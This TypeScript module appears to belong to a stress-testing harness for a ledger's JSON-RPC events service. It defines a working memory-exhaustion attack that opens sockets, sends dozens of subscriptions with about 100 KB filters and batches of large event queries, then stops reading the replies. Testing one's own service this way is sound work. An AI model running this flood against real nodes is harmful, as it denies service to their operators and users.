import type { Attacker } from '../attacker.js';
import { openRpcSocket } from '../open-rpc-socket.js';

const HOLD_MS = 8_000;
const SUBSCRIPTIONS = 40;
const CALLS_IN_BATCH = 50;
const BATCHES = 4;
const FILTER_TERMS = 900;

/** A filter of about 100 KB with only distinct field paths. */
function largeFilter(mark: number) {
  const terms = Array.from({ length: FILTER_TERMS }, (_, index) => ({
    MoveEventField: { path: `/${'x'.repeat(60)}${mark}/${index}`, value: index },
  }));
  return { Any: terms };
}

const request = (id: number, method: string, params: unknown[]) => {
  return { jsonrpc: '2.0', id, method, params };
};

/**
 * Subscribes with filters that are expensive to keep and to compare, requests large answers and reads none of
 * them.
 */
export const floodSubscriptions: Attacker = {
  name: 'flood-subscriptions',
  aim: 'use up the memory of the events service',
  async run({ gatewayUrl }, client, signal) {
    let mark = 0;
    await client.repeat(500, async () => {
      const socket = await openRpcSocket(gatewayUrl, client);
      const leave = () => socket.terminate();
      signal.addEventListener('abort', leave, { once: true });
      try {
        const filters = Array.from({ length: SUBSCRIPTIONS }, (_, index) =>
          request(index + 1, 'ledger_subscribeEvent', [largeFilter(mark++)]),
        );
        for (const subscribe of filters) socket.send(JSON.stringify(subscribe));
        const pages = Array.from({ length: CALLS_IN_BATCH }, (_, index) =>
          request(1_000 + index, 'ledger_getEvents', ['All', null, 1_000]),
        );
        for (let sent = 0; sent < BATCHES; sent++) socket.send(JSON.stringify(pages));
        socket.pause();
        await client.pause(HOLD_MS);
      } finally {
        signal.removeEventListener('abort', leave);
        leave();
      }
    });
  },
};
